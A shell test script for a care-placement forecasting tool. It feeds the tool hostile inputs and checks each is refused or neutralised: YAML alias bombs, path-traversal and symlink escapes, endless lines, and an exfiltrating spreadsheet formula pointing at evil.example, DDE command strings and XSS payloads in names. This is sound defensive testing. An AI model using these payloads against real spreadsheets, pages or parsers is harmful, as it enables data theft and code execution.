# Input from strangers: files without end, lines without end, bombs of aliases, paths that lead out, formulas and markup in names. Each is
# refused with its place or made harmless; nothing hangs.
. "$(dirname "$0")/cli_test.sh"

cp -r "$data/small" .
returns=small/returns

# refused NAME TEXT ARGUMENTS...: exit code 3 within a minute, a message with TEXT, nothing written.
refused() {
    local name="$1" text="$2"
    shift 2
    code=0
    timeout --signal=KILL 60 "$PLACECAST" "$@" >said.out 2>said.err </dev/null || code=$?
    expect "$name: exit code $code, expected 3" test "$code" = 3
    cat said.out said.err >said.all
    grep -qF -e "$text" said.all || fail "$name: no message has \"$text\": $(head -c 300 said.all)"
    expect "$name: nothing is written" test -z "$(ls -A never 2>/dev/null)"
}

# 1. Long: a line of 10^6 bytes is read, or refused where a field passes 1 MiB; a line without end too.
mkdir -p long endless nul
cp -r "$returns"/* long/
python3 -c 'import sys
text = open(sys.argv[1]).read().split("\n")
text[1] = text[1].replace(",S,", ",S" + " " * 1000000 + ",", 1)
open(sys.argv[2], "w").write("\n".join(text))' "$returns/2019-20/episodes.csv" long/2019-20/episodes.csv
expect "the line has 10^6 bytes" test "$(wc -L <long/2019-20/episodes.csv)" -gt 1000000
"$PLACECAST" clean long --out long_out --quiet 2>said.err || fail "a line of 10^6 bytes is read: $(cat said.err)"
expect "and its row kept, less the blanks" test "$(wc -l <long_out/episodes.csv)" -gt 10
cp -r "$returns"/* endless/
head -c 20000000 /dev/zero | tr '\0' 'a' >>endless/2019-20/episodes.csv
refused endless "2019-20/episodes.csv:" clean endless --out never
head -c 5000000 /dev/zero | tr '\0' '"' >endless/2019-20/episodes.csv
refused quotes "2019-20/episodes.csv:" clean endless --out never
{
    printf 'placecast: 1\nname: '
    head -c 1000000 /dev/zero | tr '\0' 'n'
} >long.yaml
refused long_name "long.yaml:" run long.yaml --out never
head -c 20000000 /dev/zero | tr '\0' '#' >huge.yaml
refused huge_yaml "huge.yaml" run huge.yaml --out never

# 2. NUL bytes, in each kind of file.
cp -r "$returns"/* nul/
printf '1004,\0,S\n' >>nul/2019-20/episodes.csv
refused nul_returns "NUL byte" clean nul --out never
for key in costs.weekly costs.inflation data.published population budget actuals out_of_area costs.processes costs.current \
    data.codes workforce; do
    printf 'category,weekly_gbp\nkinship,1\0\n' >"nul_file"
    refused "NUL in $key" nul_file run small/base.yaml --set "$key=nul_file" --out never
done
printf 'placecast: 1\nname: a\0b\n' >nul.yaml
refused nul_scenario nul.yaml run nul.yaml --out never

# 3. YAML: deep, and bombs of aliases, wherever YAML is read.
python3 - <<'EOF'
open("deep.yaml", "w").write("placecast: 1\nname: " + "[" * 5000 + "]" * 5000 + "\n")
bomb = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
for level in range(1, 12):
    bomb += f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * 10) + "]\n"
open("bomb.yaml", "w").write("placecast: 1\nname: Bomb\n" + bomb + "months: *a11\n")
open("self.yaml", "w").write("placecast: 1\nname: &n [*n]\n")
open("sweep_bomb.yaml", "w").write("sweep: 1\nname: Bomb\n" + bomb + "base: *a11\n")
EOF
for file in deep bomb self; do
    refused "$file" "$file.yaml:" run "$file.yaml" --out never
    refused "$file as a code map" "$file.yaml:" clean "$returns" --codes "$file.yaml" --out never
    refused "$file as a workforce" "$file.yaml:" run small/base.yaml --set "workforce=$file.yaml" --out never
    refused "$file as a truth" "$file.yaml" synth "$file.yaml" --out never
done
refused sweep_bomb "sweep_bomb.yaml:" sweep sweep_bomb.yaml --out never
printf 'extends: two.yaml\nname: One\n' >one.yaml
printf 'extends: one.yaml\nname: Two\n' >two.yaml
refused circle "one.yaml" run one.yaml --out never

# 4. --confine: no path leads out, however it is written and whoever names it.
mkdir inside secret
cp -r small inside/
cp small/weekly.csv small/published.csv secret/
cp small/base.yaml secret/base.yaml
cp -r "$returns" secret/returns
ln -s "$PWD/secret" inside/link
ln -s "$PWD/secret/weekly.csv" inside/weekly_link.csv
mkdir inside/linked_returns
ln -s "$PWD/secret/returns/2019-20" inside/linked_returns/2019-20
for path in ../secret/base.yaml "$PWD/secret/base.yaml" link/base.yaml small/../../secret/base.yaml nowhere/../../secret/base.yaml; do
    printf 'extends: "%s"\nname: Out\n' "$path" >inside/out.yaml
    refused "extends $path" "confined" run inside/out.yaml --confine inside --out never
    printf 'sweep: 1\nname: Out\nbase: "%s"\nfactors: [{name: s, key: seed, values: [1]}]\n' "$path" >inside/out_sweep.yaml
    refused "base $path" "confined" sweep inside/out_sweep.yaml --confine inside --out never
done
for path in ../secret/weekly.csv "$PWD/secret/weekly.csv" link/weekly.csv weekly_link.csv; do
    for key in costs.weekly data.published data.codes population workforce budget; do
        printf 'extends: small/base.yaml\nname: Out\n' >inside/out.yaml
        python3 - "$key" "$path" <<'EOF'
import json, sys
group, _, name = sys.argv[1].rpartition(".")
value = {name: sys.argv[2]}
json.dump({"extends": "small/base.yaml", "name": "Out", **({group: value} if group else value)}, open("inside/out.yaml", "w"))
EOF
        refused "$key $path" "confined" run inside/out.yaml --confine inside --out never
    done
done
refused "a folder of returns with a link in it" "outside inside (--confine)" clean inside/linked_returns --confine inside --out never
refused "returns by --set" "confined" run inside/small/base.yaml --confine inside --set data.ssda903=inside/linked_returns --out never
refused "codes outside" "--confine" clean inside/small/returns --codes secret/weekly.csv --confine inside --out never
refused "a panel outside" "--confine" backtest --panel secret --confine inside --out never
"$PLACECAST" run inside/small/base.yaml --confine inside --replicates 5 --no-backtest --out allowed --quiet || fail "what lies inside is read"

# 5. FIFOs, folders and devices in place of files: nobody waits for a writer.
mkfifo fifo
mkdir folder
for thing in fifo folder /dev/zero; do
    refused "$thing as a scenario" "$thing" run "$thing" --out never
    refused "$thing as a sweep" "$thing" sweep "$thing" --out never
    refused "$thing as a truth" "$thing" synth "$thing" --out never
    refused "$thing as run.json" "$thing" rerun "$thing" --out never
    refused "$thing as a database" "$thing" sweep "$thing" --merge --out never
    for key in data.codes data.published costs.weekly costs.inflation costs.current costs.processes population budget actuals \
        out_of_area workforce; do
        refused "$thing as $key" "$thing" run small/base.yaml --set "$key=$thing" --out never
    done
done
for thing in fifo /dev/zero; do
    refused "$thing as a folder of returns" "$thing" clean "$thing" --out never
    refused "$thing as a folder of results" "$thing" report "$thing"
done
cp -r "$returns" with_fifo
mkfifo with_fifo/2019-20/more.csv
timeout --signal=KILL 60 "$PLACECAST" clean with_fifo --out fifo_out --quiet 2>said.err || fail "a FIFO among returns is passed by: $(cat said.err)"
printf 'sweep: 1\nname: Small\nbase: small/base.yaml\nreplicates: 2\nfactors: [{name: s, key: seed, values: [1]}]\n' >sweep.yaml
for thing in fifo folder; do
    code=0
    timeout --signal=KILL 60 "$PLACECAST" sweep sweep.yaml --out "$thing" >said.out 2>said.err </dev/null || code=$?
    expect "a sweep into a $thing is refused, exit code $code" test "$code" = 3 -o "$code" = 1
    expect "with a message" grep -q "^$thing: " said.err
done
mkdir results results/forecast.csv
code=0
timeout --signal=KILL 60 "$PLACECAST" run small/base.yaml --replicates 2 --no-backtest --out results >said.out 2>said.err </dev/null || code=$?
expect "a folder where a table goes is a failed write, exit code $code" test "$code" = 1
expect "that names it" grep -q 'forecast.csv' said.err
code=0
"$PLACECAST" clean "$returns" --out small/weekly.csv >said.out 2>said.err </dev/null || code=$?
expect "a file where the folder of results goes is a failed write, exit code $code" test "$code" = 1
expect "that names it, too" grep -q '^small/weekly.csv: ' said.err

# 6. Formulas and markup in every name that a user or a return can give: text, in CSV, workbook, page and JSON.
python3 - <<'EOF'
import csv, glob, os, shutil
evil = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A1", "-2+3", "@SUM(1)", "\t=1+1",
        "</script><script>window.harm=1</script>", '"><img src=x onerror=alert(1)>']
os.makedirs("evil/returns")
for year in ("2019-20", "2020-21", "2021-22"):
    os.makedirs("evil/returns/" + year)
    for path in glob.glob(f"small/returns/{year}/*.csv"):
        rows = list(csv.reader(open(path)))
        with open(f"evil/returns/{year}/=cmd {os.path.basename(path)}", "w", newline="") as out:
            writer = csv.writer(out)
            writer.writerow(["LA"] + rows[0])
            for at, row in enumerate(rows[1:]):
                writer.writerow([evil[at % 2 * 5], "=" + row[0]] + row[1:])
shutil.copy("small/weekly.csv", "evil/weekly.csv")
EOF
cat >evil/plan.yaml <<'YAML'
placecast: 1
name: '=HYPERLINK("http:evil.example") <script>window.harm=1<script>'
start: 2022-04-01
months: 24
replicates: 20
data: {ssda903: returns, extract: 2022-03-31}
costs: {weekly: weekly.csv}
interventions: [{name: "@SUM(1)<img src=x onerror=alert(1)>", kind: prevent, effect: 0.1}]
targets: [{name: "+cmd|'C calc'!A1", measure: children, category: all, by: 2023-03-31, at_most: 6}]
budget:
  - {year: 2022/23, side: budget, kind: opening, line: "=1+1", holder: "-2+3", amount: 100000}
  - {year: 2022/23, side: outturn, kind: modelled, line: cost_gbp, holder: "-2+3"}
YAML
printf 'extends: plan.yaml\nname: "-1+1</script><script>window.harm=2</script>"\n' | sed 's,</,<,g' >evil/more.yaml
"$PLACECAST" clean evil/returns --out evil/clean >said.out 2>&1 || fail "hostile names are cleaned: $(cat said.out)"
"$PLACECAST" fit evil/plan.yaml --out evil/fit >said.out 2>&1 || fail "hostile names are fitted: $(cat said.out)"
"$PLACECAST" run evil/plan.yaml --no-backtest --out evil/run >said.out 2>&1 || fail "hostile names are run: $(cat said.out)"
"$PLACECAST" compare evil/plan.yaml evil/more.yaml --no-backtest --out evil/both >said.out 2>&1 || fail "hostile names are compared: $(cat said.out)"
cat >judge.py <<'EOF'
import csv, glob, re, sys, zipfile
wrong, seen = [], 0
for path in sorted(glob.glob("evil/*/*.csv")):
    if "/returns/" in path or "weekly" in path:
        continue
    for number, row in enumerate(csv.reader(open(path, newline=""))):
        for cell in row:
            seen += "=HYPER" in cell or "@SUM" in cell or "=1" in cell
            if cell[:1] in "=+-@\t\r" and cell != "" and not re.fullmatch(r"[-+]?[0-9.]+(e[-+]?\d+)?", cell):
                wrong.append(f"{path}:{number + 1}: {cell!r} begins as a formula does")
for path in glob.glob("evil/*/workbook.xlsx"):
    book = zipfile.ZipFile(path)
    for name in book.namelist():
        text = book.read(name).decode("utf-8", "replace")
        for formula in re.findall(r"<f>([^<]*)</f>", text):
            if "HYPERLINK" in formula or "cmd" in formula or "@" in formula or formula in ("1+1", "-2+3", "2+3"):
                wrong.append(f"{path}:{name}: a formula {formula!r}")
        if "externalLink" in name or "TargetMode=\"External\"" in text:
            wrong.append(f"{path}:{name}: a link out of the workbook")
        seen += "@SUM" in text
for path in glob.glob("evil/*/report.html"):
    text = open(path).read()
    for bad in ("<img", "<script>window", "</script><script>w", "onerror=alert(1)>"):
        at = text.find(bad)
        if at >= 0:
            wrong.append(f"{path}: {text[max(0, at - 40):at + 60]!r}")
    seen += "window.harm" in text
for line in wrong[:10]:
    print(line)
if seen < 10:
    print("the hostile names are not there at all:", seen)
sys.exit(bool(wrong) or seen < 10)
EOF
expect "nothing a user wrote is a formula or markup" python3 judge.py

# Names from returns in another encoding, or with commands to a terminal: every table is text in UTF-8.
python3 - <<'EOF'
import csv, glob, os
names = [b"Ynys M\xf4n", b"\x1b[2J\x07Evil", "Good \u00e9".encode()]
for year in ("2019-20", "2020-21", "2021-22"):
    os.makedirs("bytes/returns/" + year)
    for path in glob.glob(f"small/returns/{year}/*.csv"):
        rows = list(csv.reader(open(path)))
        with open(f"bytes/returns/{year}/{os.path.basename(path)}", "wb") as out:
            out.write(b"LA," + ",".join(rows[0]).encode() + b"\n")
            for row in rows[1:]:
                out.write(names[int(row[0]) % 3] + b"," + b"\x1b]0;" + ",".join(row).encode() + b"\n")
EOF
printf 'extends: ../small/base.yaml\nname: Bytes\ndata: {ssda903: returns}\n' >bytes/plan.yaml
"$PLACECAST" clean bytes/returns --out bytes/clean --quiet 2>said.err || fail "names of any bytes are cleaned: $(cat said.err)"
"$PLACECAST" run bytes/plan.yaml --replicates 5 --out bytes/run --quiet 2>said.err || fail "names of any bytes are run: $(cat said.err)"
printf 'sweep: 1\nname: Bytes\nbase: plan.yaml\nreplicates: 2\nfactors: [{name: la, authorities: all}]\n' >bytes/sweep.yaml
"$PLACECAST" sweep bytes/sweep.yaml --out bytes.db --quiet 2>said.err || fail "names of any bytes are swept: $(cat said.err)"
expect "nor does a database" python3 -c '
import sqlite3, sys
found = sorted(row[0] for row in sqlite3.connect("bytes.db").execute("SELECT la FROM runs"))
sys.exit(found != ["?[2J?Evil", "Good \u00e9", "Ynys M?n"])'
expect "no table and no page holds a byte that is not text" python3 -c '
import glob, sys
paths = glob.glob("bytes/clean/*") + glob.glob("bytes/run/*.csv") + glob.glob("bytes/run/*.json") + glob.glob("bytes/run/*.html")
for path in paths:
    text = open(path, "rb").read().decode("utf-8")
    if any(ord(c) < 32 and c not in "\n\r\t" or ord(c) == 127 for c in text):
        sys.exit(path + ": a control character")
text = open("bytes/run/forecast.csv").read()
sys.exit(not all(name in text for name in ("Ynys M?n", "?[2J?Evil", "Good \u00e9")))'

# 7. Many rows: 10^5 here; bench/limits goes to 10^7.
mkdir many
awk 'BEGIN {
    print "CHILD,YEAR,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB" >"many/header.csv"
    print "CHILD,YEAR,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE" >"many/episodes.csv"
    print "CHILD,YEAR,SEX,DOB,DUC" >"many/uasc.csv"
    for (child = 1; child <= 50000; child++) {
        printf "%d,2021,1,%02d/%02d/%d,WBRI,,,\n", child, child % 28 + 1, child % 12 + 1, 2004 + child % 14 >"many/header.csv"
        printf "%d,2020,01/05/2019,S,C2,N1,U4,PR1,,,\n%d,2021,01/05/2019,S,C2,N1,U4,PR1,,,\n", child, child >"many/episodes.csv"
    }
}'
"$PLACECAST" clean many --out many_out --json >many.json 2>said.err || fail "10^5 rows are cleaned: $(cat said.err)"
expect "all are read" grep -q '"rows_read":100000,' many.json
expect "each child is kept once" test "$(wc -l <many_out/episodes.csv)" = 50001
finish
